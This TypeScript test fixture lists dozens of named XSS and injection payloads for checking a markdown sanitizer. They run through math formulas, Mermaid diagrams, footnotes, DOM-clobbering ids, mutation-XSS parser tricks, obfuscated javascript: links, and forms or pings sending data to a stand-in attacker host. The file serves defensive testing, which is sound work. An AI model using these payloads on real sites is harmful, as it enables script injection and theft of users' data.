const mermaid = (...lines: string[]) => `\`\`\`mermaid\n${lines.join('\n')}\n\`\`\``;

/**
 * More attempts, through what is drawn of a text: formulas, emoji, alerts, footnotes, diagrams, headings
 * and their ids; and mutations between the parsers of HTML, SVG and MathML.
 */
export const MORE_ATTACKS: Readonly<Record<string, string>> = {
  // Formulas.
  'formula with a link': '$\\href{javascript:attack()}{x}$',
  'formula with an address': '$\\url{javascript:attack()}$',
  'formula with a picture': '$\\includegraphics[alt=x]{https://attack.invalid/a.png}$',
  'formula with a style': '$\\style{background:url(//attack.invalid)}{x}$',
  'formula with a class and an id': '$\\class{x" onclick="attack()}{\\id{attack}{y}}$',
  'formula with data': '$\\data{x="onload=attack()"}{y}$',
  'formula with HTML': '$\\htmlId{attack}{x}\\htmlStyle{color:red}{y}\\html{<img src=x onerror=attack()>}$',
  'formula that ends early': '$</math><img src=x onerror=attack()>$',
  'formula with text that is HTML': '$$\\text{<script>attack()</script><img src=x onerror=attack()>}$$',
  'formula with a color': '$\\color{url(//attack.invalid)}x \\textcolor{red;background:url(//attack.invalid)}{y}$',
  'formula that defines itself': '$\\def\\a{\\a\\a}\\a$ $\\newcommand\\b{\\b x}\\b$',
  'formula in a link': '[$\\alpha$](javascript:attack())',
  'formula with a reference': '$$\\tag{" onmouseover="attack()}\\label{attack}x$$ $\\ref{attack}$',
  'formula nested deeply': `$${'\\sqrt{'.repeat(300)}x${'}'.repeat(300)}$`,
  'formula of script tags in code': '```math\n</annotation></semantics></math><script>attack()</script>\n```',
  // Emoji, alerts, footnotes.
  'emoji with HTML': ':<img src=x onerror=attack()>: :+1" onclick="attack(): :__proto__: :constructor:',
  'alert with HTML in its name': '> [!NOTE"><img src=x onerror=attack()>]\n> x',
  'alert of another kind': '> [!__proto__]\n> x\n\n> [!WARNING]\n> <script>attack()</script>',
  'footnote with HTML in its name': 'x[^"><img src=x onerror=attack()>]\n\n[^"><img src=x onerror=attack()>]: y',
  'footnote that is named like a property': 'x[^__proto__] y[^constructor]\n\n[^__proto__]: a\n\n[^constructor]: b',
  'footnote with a link': 'x[^1]\n\n[^1]: [y](javascript:attack())',
  // Ids.
  'heading named like a global': '## attack\n\n## body\n\n## location\n\n## __proto__\n\n## toString',
  'anchor named like a global': '<a name="attack">x</a><a id="location" href="javascript:attack()">y</a>',
  'form that clobbers': '<form id="attack"><input name="attributes"><input name="children"></form>',
  'two of one id': '<a id="cookie"></a><a id="cookie" name="x" href="cid:attack()">x</a>',
  'id with spaces and quotes': '<h2 id="a b\' onclick=attack() x=\'">x</h2>',
  'label for another': '<label for="search">x</label><output for="search" form="attack">y</output>',
  // Mutations.
  'math with a style and a title': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
  'svg with a description and a style': '<svg><desc><style><a title="</style><img src=x onerror=attack()>"></desc></svg>',
  'math with an annotation of HTML': '<math><annotation-xml encoding="text/html"><p><style><a id="</style><img src=x onerror=attack()>"></annotation-xml></math>',
  'forms inside each other': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>',
  'svg in a paragraph that ends': '<svg></p><style><a title="</style><img src=x onerror=attack()>">',
  'noscript with a title': '<noscript><p title="</noscript><img src=x onerror=attack()>"></noscript>',
  'template with a shadow root': '<div><template shadowrootmode="open"><img src=x onerror=attack()></template></div>',
  'comment that ends oddly': '<!--><img src=x onerror=attack()>--> <!--!> <img src=x onerror=attack()> -->',
  'declaration that ends oddly': '<![CDATA[><img src=x onerror=attack()>]]> <?x ><img src=x onerror=attack()>?>',
  'select that breaks': '<select><option><style></option></select><img src=x onerror=attack()></style>',
  'table that moves its content': '<table><a href="javascript:attack()"><tr><td><table><img src=x onerror=attack()></table>',
  'svg that uses data': '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>attack()</script></svg>#x"/></svg>',
  'svg that animates a link': '<svg><a><animate attributeName=href values=javascript:attack() /><text y=20>x</text></a></svg>',
  'svg with a foreign object': '<svg><foreignObject><iframe srcdoc="<script>parent.attack()</script>"></foreignObject></svg>',
  'math with a link': '<math href="javascript:attack()"><mi xlink:href="javascript:attack()">x</mi></math>',
  'math with an action': '<math><maction actiontype="statusline#http://attack.invalid" xlink:href="javascript:attack()">x</maction></math>',
  // Diagrams.
  'diagram with a call': mermaid('flowchart LR', '  a-->b', '  click a call attack()', '  click b href "javascript:attack()"'),
  'diagram with HTML in a label': mermaid('flowchart LR', '  a["<img src=x onerror=attack()>"]-->b["<script>attack()</script>"]'),
  'diagram with a style': mermaid('flowchart LR', '  a-->b', '  style a fill:url(//attack.invalid),background:url(//attack.invalid)', '  classDef c fill:red;}body{background:url(//attack.invalid)', '  class a c'),
  'diagram with directives': mermaid('%%{init: {"securityLevel":"loose","themeCSS":"*{background:url(//attack.invalid)}","htmlLabels":true,"flowchart":{"htmlLabels":true}}}%%', 'flowchart LR', '  a["<img src=x onerror=attack()>"]'),
  'diagram with front matter': mermaid('---', 'config:', '  securityLevel: loose', '  fontFamily: "x;}</style><img src=x onerror=attack()>"', 'title: <img src=x onerror=attack()>', '---', 'flowchart LR', '  a-->b'),
  'sequence with links': mermaid('sequenceDiagram', '  participant A', '  link A: x @ javascript:attack()', '  links A: {"y": "javascript:attack()"}', '  A->>A: <img src=x onerror=attack()>'),
  'diagram with an image': mermaid('flowchart LR', '  a@{ img: "https://attack.invalid/a.png", label: "x" }', '  b@{ icon: "fa:x" }'),
  // Addresses.
  'link by a reference of names': '[x](java&Tab;script&colon;attack&lpar;&rpar;) [y](&#x6a;avascript:attack())',
  'links of other schemes': '[a](vbscript:attack()) [b](blob:https://x/1) [c](filesystem:http://x/a) [d](view-source:javascript:attack()) [e](jar:data:text/html,!/x)',
  'data that is a page': '[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==) ![y](data:image/svg+xml,<svg/onload=attack()>)',
  'picture from elsewhere': '![x](https://attack.invalid/a.png) <img src="//attack.invalid/b.png" srcset="//attack.invalid/c.png 2x">',
  'address with a name': '[x](https://kubernetes.io@attack.invalid/) <https://kubernetes.io%00@attack.invalid>',
  'refresh and base in one': '<meta http-equiv=refresh content="0;url=//attack.invalid"><base href="javascript:attack()//"><a href="x">y</a>',
  'form that sends itself': '<form action="https://attack.invalid" method=post><input name=x value=y autofocus><input type=submit id=s></form><button form=s formaction="//attack.invalid">x</button>',
  'popover and dialog': '<button popovertarget=p>x</button><div popover id=p ontoggle=attack()>y</div><dialog open oncancel=attack()>z</dialog>',
  'speculation and preloads': '<script type=speculationrules>{"prefetch":[{"urls":["https://attack.invalid"]}]}</script><link rel=preload as=image href=//attack.invalid>',
  'ping of a link': '<a href="https://kubernetes.io" ping="https://attack.invalid" target="_top" download>x</a>',
  // Sizes.
  'a table of many columns': `|${'a|'.repeat(150)}\n|${'-|'.repeat(150)}\n|${'<img src=x onerror=attack()>|'.repeat(150)}`,
  'quotes in quotes': `${'> '.repeat(200)}<img src=x onerror=attack()>`,
  'elements in elements': `${'<b><i><u><div>'.repeat(300)}<img src=x onerror=attack()>`,
  'brackets in brackets': `${'['.repeat(400)}x${'](javascript:attack())'.repeat(400)}`,
};
